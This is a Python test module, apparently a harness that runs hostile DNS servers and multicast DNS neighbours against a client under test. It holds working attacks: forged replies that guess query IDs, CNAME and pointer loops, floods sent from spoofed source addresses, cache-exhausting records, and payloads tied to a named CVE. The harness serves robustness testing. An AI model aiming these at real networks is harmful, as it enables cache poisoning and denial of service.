"""Name servers and multicast DNS hosts that attack their clients and neighbours."""
import socket
import struct
import threading
import time

GROUP = ("224.0.0.251", 5353)
A, CNAME, PTR, TXT, SRV, NSEC = 1, 5, 12, 16, 33, 47


def name(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".") if label) + b"\0"


def record(owner, kind, ttl, data, kind_class=1):
    return owner + struct.pack(">HHIH", kind, kind_class, ttl, len(data)) + data


def message(identifier, flags, questions=(), answers=()):
    head = struct.pack(">HHHHHH", identifier, flags, len(questions), len(answers), 0, 0)
    return head + b"".join(questions) + b"".join(answers)


# Name servers


def question_of(query):
    """The question section of a query, without EDNS."""
    end = 12
    while query[end]:
        end += query[end] + 1
    return query[12 : end + 5]


def name_server(answer):
    """`answer(query)` returns the datagrams to send for one query."""

    def run(peer):
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.bind(("127.0.0.1", 0))
        peer.say("ready", server.getsockname()[1])
        while True:
            query, client = server.recvfrom(4096)
            for datagram in answer(query):
                server.sendto(datagram, client)

    return run


def forged_first(query):
    identifier = struct.unpack(">H", query[:2])[0]
    question = question_of(query)
    wrong = record(b"\xc0\x0c", A, 60, bytes([6, 6, 6, 6]))
    right = record(b"\xc0\x0c", A, 60, bytes([192, 0, 2, 1]))
    for number in range(128):
        yield message((identifier + 1 + number) & 0xFFFF, 0x8180, [question], [wrong])
    yield message(identifier, 0x8180, [question], [right])


def alias_loop(query):
    identifier = struct.unpack(">H", query[:2])[0]
    loop = [record(name(f"a{n}.test"), CNAME, 60, name(f"a{(n + 1) % 40}.test")) for n in range(40)]
    start = record(b"\xc0\x0c", CNAME, 60, name("a0.test"))
    yield message(identifier, 0x8180, [question_of(query)], [start] + loop)


def pointer_chains(query):
    """As many records as fit, with names of the maximum length behind as many pointers as possible."""
    identifier = struct.unpack(">H", query[:2])[0]
    question = question_of(query)
    packet = bytearray(message(identifier, 0x8180, [question]))
    places = [12]
    count = 0
    while len(packet) < 3900:
        target = places[-1] if count < 120 else places[120]
        places.append(len(packet))
        packet += b"\x01a" + struct.pack(">H", 0xC000 | target) + struct.pack(">HHIH", A, 1, 60, 4) + bytes(4)
        count += 1
    packet[6:8] = struct.pack(">H", count)
    yield bytes(packet)


def same_port():
    """A UDP socket and a TCP listener with the same port, which another program may already use for one of them."""
    while True:
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        listener = socket.create_server(("127.0.0.1", 0), backlog=128)
        try:
            datagrams.bind(listener.getsockname())
            return datagrams, listener
        except OSError:
            datagrams.close()
            listener.close()


def many_addresses(peer):
    """As many addresses as an answer over TCP holds; every datagram is a truncated answer."""
    datagrams, listener = same_port()
    port = listener.getsockname()[1]

    def answer(query):
        identifier = struct.unpack(">H", query[:2])[0]
        question = question_of(query)
        kind = struct.unpack(">H", question[-4:-2])[0]
        size = 4 if kind == A else 16
        count = (65535 - 12 - len(question)) // (12 + size)
        addresses = [struct.pack(">I", 0x0A000000 + n).rjust(size, b"\x20") for n in range(count)]
        return message(identifier, 0x8180, [question], [record(b"\xc0\x0c", kind, 60, a) for a in addresses])

    def serve():
        while True:
            connected, _ = listener.accept()
            try:
                with connected, connected.makefile("rb") as stream:
                    length = stream.read(2)
                    reply = answer(stream.read(struct.unpack(">H", length)[0]))
                    connected.sendall(struct.pack(">H", len(reply)) + reply)
            except (OSError, struct.error):
                pass

    threading.Thread(target=serve, daemon=True).start()
    peer.say("ready", port)
    while True:
        query, client = datagrams.recvfrom(4096)
        identifier = struct.unpack(">H", query[:2])[0]
        datagrams.sendto(message(identifier, 0x8380, [question_of(query)]), client)


# Neighbours of multicast DNS


def multicaster(address="10.77.5.1", port=5353, forged=False):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    if forged:
        sender.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
    sender.bind((address, port))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("10.77.5.1"))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    return sender


VICTIM = "10.77.5.2"


def wait_for_victim():
    """Waits until the victim has sent its first query."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    listener.bind(GROUP)
    member = socket.inet_aton(GROUP[0]) + socket.inet_aton("10.77.5.1")
    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
    while listener.recvfrom(9000)[1][0] != VICTIM:
        pass
    listener.close()


def neighbour(packets, forged=False):
    """Sends `packets()` to the group repeatedly; stops after the budget."""

    def run(peer):
        senders = [multicaster()]
        if forged:
            senders += [multicaster(f"10.77.5.{last}", forged=True) for last in (77, 78)]
        peer.say("ready", 0)
        wait_for_victim()
        left = peer.limit
        while left > 0:
            for number, packet in enumerate(packets()):
                try:
                    senders[number % len(senders)].sendto(packet, GROUP)
                except OSError:
                    time.sleep(0.001)
                left -= len(packet)
                if left <= 0:
                    break
        peer.say("done")

    return run


SERVICE = "_attack._tcp.local"


def once_and_gone():
    """C.4 (a): a service that appears and disappears in one packet, repeatedly."""
    for number in range(64):
        pointer = name(f"s{number}.{SERVICE}")
        yield message(0, 0x8400, [], [
            record(name(SERVICE), PTR, 4500, pointer), record(name(SERVICE), PTR, 0, pointer)])


def questions_times_answers():
    """C.4 (b): 725 questions with 272 known answers in one packet of 9,000 bytes."""
    first = name(SERVICE) + struct.pack(">HH", PTR, 1)
    again = b"\xc0\x0c" + struct.pack(">HH", PTR, 1)
    known = [record(b"\xc0\x0c", PTR, 4500, b"\x02" + bytes([97 + n % 26, 97 + n // 26 % 26]) + b"\xc0\x0c") for n in range(272)]
    room = (8900 - 12 - len(first) - sum(map(len, known))) // len(again)
    yield message(0, 0, [first] + [again] * min(724, room), known)


def everlasting():
    """C.4 (c): records that never expire, from forged addresses, until there is no room for others."""
    for start in range(0, 20000, 100):
        yield message(0, 0x8400, [], [
            record(name(SERVICE), PTR, 0xFFFFFFFF, name(f"x{start + n}.{SERVICE}")) for n in range(100)])


def ever_new_names():
    """CVE-2026-47184: a million different names."""
    for start in range(0, 1000000, 60):
        yield message(0, 0x8400, [], [
            record(name(f"h{start + n}.local"), A, 120, bytes([192, 0, 2, 1]), 0x8001) for n in range(60)])


def truncated_queries():
    """Queries whose known answers are still to come (GHSA-qc2x-6f54-m6h9), from many ports and never completed."""
    question = name(SERVICE) + struct.pack(">HH", PTR, 1)
    for number in range(256):
        known = [record(b"\xc0\x0c", PTR, 4500, b"\x08" + b"%08d" % (number * 100 + n) + b"\xc0\x0c") for n in range(100)]
        yield message(number, 0x0200, [question], known)


def truncated_queries_with_long_names():
    """Queries whose known answers are still to come, with names of 220 bytes."""
    question = name(SERVICE) + struct.pack(">HH", PTR, 1)
    long_labels = (b"\x3f" + b"x" * 63) * 3
    for number in range(256):
        known = [record(b"\xc0\x0c", PTR, 4500, b"\x08" + b"%08d" % (number * 40 + n) + long_labels + b"\xc0\x0c")
            for n in range(40)]
        yield message(number, 0x0200, [question], known)


def large_records():
    """Records that need much more memory than bytes in a packet, and now and then one that flushes all of them together."""
    owner = name(f"large.{SERVICE}")
    all_types = b"".join(bytes([block, 32]) + b"\xff" * 32 for block in range(256))
    for number in range(1024):
        first = b"\x04" + struct.pack(">I", number)
        yield message(0, 0x8400, [], [record(owner, TXT, 4500, first + b"\x01x" * 4400)])
        yield message(0, 0x8400, [], [record(owner, TXT, 4500, first + (b"\x0a" + b"x" * 10) * 800)])
        yield message(0, 0x8400, [], [record(owner, NSEC, 4500, name(f"n{number}.local") + all_types)])
        if number % 64 == 63:
            yield message(0, 0x8400, [], [record(owner, TXT, 4500, b"\x01x", 0x8001)])


def pointer_loops():
    """Names that point to themselves, to each other, and beyond the packet."""
    for target in (12, 14, 0x3FFF, 13):
        yield message(0, 0x8400, [], []) [:6] + b"\0\x10\0\0\0\0" + (
            struct.pack(">H", 0xC000 | target) + struct.pack(">HHIH", PTR, 1, 120, 2) + b"\xc0\x0c") * 16


def many_questions():
    """Questions that this machine must answer, as fast as they can be sent."""
    kinds = (PTR, SRV, TXT, A)
    asked = name(SERVICE)
    yield message(0, 0, [asked + struct.pack(">HH", kind, 1) for kind in kinds])


MODES = {
    "dns-forged": name_server(forged_first),
    "dns-alias-loop": name_server(alias_loop),
    "dns-pointer-chains": name_server(pointer_chains),
    "dns-many-addresses": many_addresses,
    "mdns-come-and-go": neighbour(once_and_gone),
    "mdns-questions-times-answers": neighbour(questions_times_answers),
    "mdns-everlasting": neighbour(everlasting, forged=True),
    "mdns-ever-new-names": neighbour(ever_new_names),
    "mdns-truncated-queries": neighbour(truncated_queries, forged=True),
    "mdns-truncated-queries-with-long-names": neighbour(truncated_queries_with_long_names, forged=True),
    "mdns-large-records": neighbour(large_records),
    "mdns-pointer-loops": neighbour(pointer_loops),
    "mdns-questions": neighbour(many_questions),
}
